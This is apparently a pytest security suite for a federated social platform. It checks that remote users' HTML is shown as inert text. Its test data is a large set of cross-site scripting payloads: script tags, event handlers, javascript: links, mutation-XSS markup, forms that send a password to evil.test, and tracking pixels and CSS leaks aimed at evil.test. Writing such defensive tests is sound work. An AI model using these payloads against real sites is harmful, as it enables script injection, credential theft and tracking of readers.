"""HTML of others on our pages and in our feed: it is read, and nothing of it acts."""

import re

import pytest

from fedishare.foundation.text.sanitise import ATTRIBUTES, REL, TAGS
from tests.attacks.lines import attack
from tests.attacks.render.looking import Seen, look
from tests.attacks.render.writing import writes
from tests.attacks.world import World

pytestmark = pytest.mark.real

ALLOWED_CLASSES = {"mention", "hashtag", "u-url", "h-card", "invisible", "ellipsis", "e-content", "quote-inline"}
BREAK_OUT = "\"><script>alert(1)</script>'><img src=x onerror=alert(1)>"
POLICY = ("form-action 'self'", "base-uri 'none'", "object-src 'none'", "frame-src 'none'", "default-src 'none'")


def only_words(seen: Seen) -> None:
    """Raises AssertionError for an element, attribute, class or address that no text has."""
    seen.nothing_happened()
    for one in seen.words:
        assert one.tag in TAGS
        assert set(one.attributes) <= {"class", "rel", *ATTRIBUTES["*"], *ATTRIBUTES.get(one.tag, set())}
        assert set(one.classes) <= ALLOWED_CLASSES
        assert re.match(r"https?://|mailto:|tel:", one.attributes.get("href", "https://"))
        assert one.attributes.get("rel", REL) == REL


async def shown(world: World, *contents: str, label: str = "Mallory", **properties: object) -> Seen:
    """What alice's browser sees of mallory's words, which are nothing but words."""
    seen = await look(world, await writes(world, *contents, label=label, **properties))
    only_words(seen)
    return seen


def everywhere(seen: Seen, word: str) -> None:
    """The words themselves are there: in the list's feed, on the listing, in the thread, in the private thread."""
    for path in ("/search.atom", "/@mallory@evil.test/", "/@alice/", "/messages/"):
        texts = [text for at, text in seen.text.items() if at.startswith(path)]
        assert any(word in text for text in texts), path


@attack("A163")
async def test_a_script_does_not_run(world: World) -> None:
    seen = await shown(
        world, "<script>alert(1)</script><p>lisible</p>", "<p>un<SCRIPT SRC=//evil.test/x.js></SCRIPT></p>"
    )

    everywhere(seen, "lisible")


@attack("A164")
async def test_no_event_has_a_handler(world: World) -> None:
    inputs = ("<img src=x onerror=alert(1)>lisible", "<p onclick=alert(1)>un</p>", "<b/onmouseover=alert(1)>deux</b>")

    everywhere(await shown(world, *inputs), "lisible")


@attack("A165")
async def test_no_link_runs_or_pretends_to_be_ours(world: World) -> None:
    addresses = (
        *("javascript:alert(1)", " java\tscript:alert(1)", "java&#10;script:alert(1)", "&#1;javascript:alert(1)"),
        *(
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "//evil.test",
            "/sign-out",
            "\\\\evil.test",
        ),
    )
    seen = await shown(world, "".join(f'<a href="{address}">lisible</a> ' for address in addresses))

    everywhere(seen, "lisible")
    links = [one for one in seen.words if one.tag == "a"]
    assert len(links) >= 3 * len(addresses)
    assert [one for one in links if "href" in one.attributes] == []


@attack("A166")
async def test_markup_that_changes_when_it_is_read_again_stays_words(world: World) -> None:
    inputs = (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<select><template><style><!--</style><a rel='--></style><img src=x onerror=alert(1)>'>",
    )

    seen = await shown(world, *(f"<p>lisible</p>{markup}<p>encore</p>" for markup in inputs))

    everywhere(seen, "lisible")


@attack("A167")
async def test_no_label_breaks_out_of_its_place(world: World) -> None:
    """Name, alternative text, option of a poll, field of a profile, hashtag, emoji, place, title, warning."""
    options = {"oneOf": [{"type": "Note", "name": BREAK_OUT}], "name": BREAK_OUT}

    seen = await shown(world, "<p>lisible</p>", label=BREAK_OUT, **options)

    everywhere(seen, "lisible")
    assert any(BREAK_OUT[:10] in text for text in seen.text.values()), "her name is shown as she wrote it"


@attack("A168")
async def test_an_emoji_is_the_text_of_its_code(world: World) -> None:
    """Emoji are not drawn at all: their code stays text, their picture is neither shown nor fetched."""
    codes = ('" onerror=alert(1) x="', "../../x", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "x")
    icon = {"type": "Image", "url": "javascript:alert(1)", "mediaType": "image/svg+xml"}
    tags = [{"type": "Emoji", "id": code, "name": f":{code}:", "icon": icon} for code in codes]

    seen = await shown(world, "<p>lisible " + " ".join(f":{code}:" for code in codes) + "</p>", tag=tags)

    everywhere(seen, ":../../x:")


@attack("A169")
async def test_no_style_class_or_name_of_ours_is_borrowed(world: World) -> None:
    styled = "<p style='position:fixed;inset:0;background:url(https://evil.test/leak)'>lisible</p>"
    classed = (
        "<p class='btn btn-danger modal fixed'>un</p><span class='msg mention box'>deux</span><a class='skip'>x</a>"
    )

    seen = await shown(
        world, styled, classed, "<p id='main'>trois</p><div id=contenu>quatre</div><style>*{display:none}</style>"
    )

    everywhere(seen, "lisible")
    for policy in seen.policies.values():
        assert "style-src 'self'" in policy
        assert "unsafe-inline" not in policy


@attack("A170")
async def test_no_form_frame_or_base_is_left_and_the_words_in_them_are(world: World) -> None:
    inputs = (
        "<p>un</p><form action=https://evil.test>lisible<input name=password><button>Oui</button></form>",
        "<iframe src=https://evil.test>deux</iframe><base href=https://evil.test>trois",
        "<meta http-equiv=refresh content='0;url=https://evil.test'>quatre<embed src=https://evil.test/x.swf>",
        "<object data=https://evil.test/x>cinq</object><applet>six</applet><frameset><frame src=//evil.test>",
    )

    seen = await shown(world, *inputs)

    everywhere(seen, "lisible")
    feed = seen.text["/search.atom"]
    assert [word for word in ("Oui", "un", "deux", "trois", "quatre", "cinq", "six") if word not in feed] == []
    for policy in seen.policies.values():
        assert [part for part in POLICY if part not in policy] == []


@attack("A171")
async def test_a_link_says_where_it_leads(world: World) -> None:
    long = "https://evil.test/" + "https-bank.test-login/" * 5
    hidden = f'<a href="{long}" rel="me"><span class="invisible">https://evil.test/</span>bank.test/login</a>'

    seen = await shown(world, "<a href=https://evil.test>https://bank.test/login</a>", hidden)

    everywhere(seen, "https://bank.test/login (evil.test)")
    everywhere(seen, "bank.test/login (evil.test)")
    assert {one.attributes["rel"] for one in seen.words if one.tag == "a"} == {REL}, "nobody is verified here"


@attack("A173")
async def test_no_preview_is_drawn(world: World) -> None:
    """What a page says of itself is not asked for, and what a note says of a page is not shown."""
    oembed = {
        "type": "rich",
        "html": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "title": "<script>1</script>",
    }
    card = {"type": "Link", "href": "https://evil.test/page", "name": "<script>alert(1)</script>"}
    page = "<html><head><meta property='og:title' content='<script>alert(1)</script>'></head></html>"
    world.mallory.server.serve("/page", {"html": oembed["html"], "og:title": page})

    seen = await shown(
        world, "<p>lisible <a href=https://evil.test/page>evil.test/page</a></p>", preview=oembed, card=card
    )

    everywhere(seen, "lisible")
    assert "GET https://evil.test/page" not in world.outbound


@attack("A174")
async def test_nobody_elsewhere_hears_that_somebody_reads(world: World) -> None:
    icon = {"type": "Image", "url": "https://evil.test/avatar.png"}
    world.mallory.document.update(icon=icon, image=icon)
    pixel = (
        "<img src=https://evil.test/p.gif?u=1><video src=https://evil.test/v poster=https://evil.test/v.png></video>"
    )
    others = "<picture><source srcset=https://evil.test/s.webp></picture><audio src=https://evil.test/a></audio>"

    seen = await shown(world, f"<p>lisible</p>{pixel}{others}", "<svg><image href=https://evil.test/i.svg /></svg>")

    everywhere(seen, "lisible")
    assert [request for request in world.outbound if re.search(r"\.(png|gif|svg|webp)", request)] == []


@attack("A175")
async def test_a_drawing_of_others_is_neither_fetched_nor_served(world: World) -> None:
    drawing = {"type": "Image", "mediaType": "image/svg+xml", "url": "https://evil.test/x.svg"}
    world.mallory.document.update(icon=drawing, image=drawing)

    seen = await shown(
        world, "<p>lisible</p><svg onload=alert(1)><script>alert(1)</script></svg>", attachment=[drawing]
    )

    everywhere(seen, "lisible")
    assert [request for request in world.outbound if ".svg" in request] == []
    assert [html for html in seen.html.values() if "evil.test/x.svg" in html] == []
    for path in ("/media/x.svg", "/media/" + "0" * 64 + ".svg", "/users/mallory/x.svg", "/static/x.svg"):
        assert (await world.reader().go(path)).status_code == 404
